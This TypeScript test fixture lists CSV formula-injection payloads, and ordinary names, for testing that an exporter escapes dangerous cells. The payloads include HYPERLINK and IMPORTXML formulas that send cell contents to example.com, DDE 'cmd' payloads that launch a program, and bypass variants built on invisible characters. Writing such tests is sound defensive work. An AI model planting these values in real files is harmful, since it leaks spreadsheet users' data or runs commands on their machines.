/**
 * Text a person or a file could put into a name, id or description that a spreadsheet would
 * run as a formula if written into a CSV cell as it is (OWASP "CSV Injection" and the cases
 * simple escapers miss). Used by the unit tests and by the end-to-end export test as names.
 */
export const CSV_INJECTION_PAYLOADS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://example.com/?",A1),"//a")',
  '+1+1',
  '+SUM(A1:A2)',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '@cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t',
  '\r',
  ' =1+1',
  '   +1',
  '\u00a0=1',
  '\u3000=1',
  '"=1+1"',
  "'=1+1",
  '"" =1',
  '=1\nx',
  'x\n=1',
  'x\r\n@SUM(1)',
  '\0=1+1',
  '\0',
  '1;=2',
  'a;+b',
  'a,=b',
  'a\t=b',
  'a|=b',
  '\ufeff=1',
  '=',
  '-',
  '+',
  '@',
  // Invisible characters a spreadsheet skips: each left "=1+1" in the cell before round four.
  '\u0085=1+1',
  '\u00ad=1+1',
  '\u034f=1+1',
  '\u180e=1+1',
  '\u2060=1+1',
];

/** Ordinary names that must come out exactly as they went in (no apostrophe). */
export const ORDINARY_NAMES: readonly string[] = [
  'Bare metal',
  '裸金属 8×H100',
  'Spot + on-demand',
  'a - b',
  'x@y.com',
  'A100 (80 GB)',
  'e-mail',
  '1e5',
];
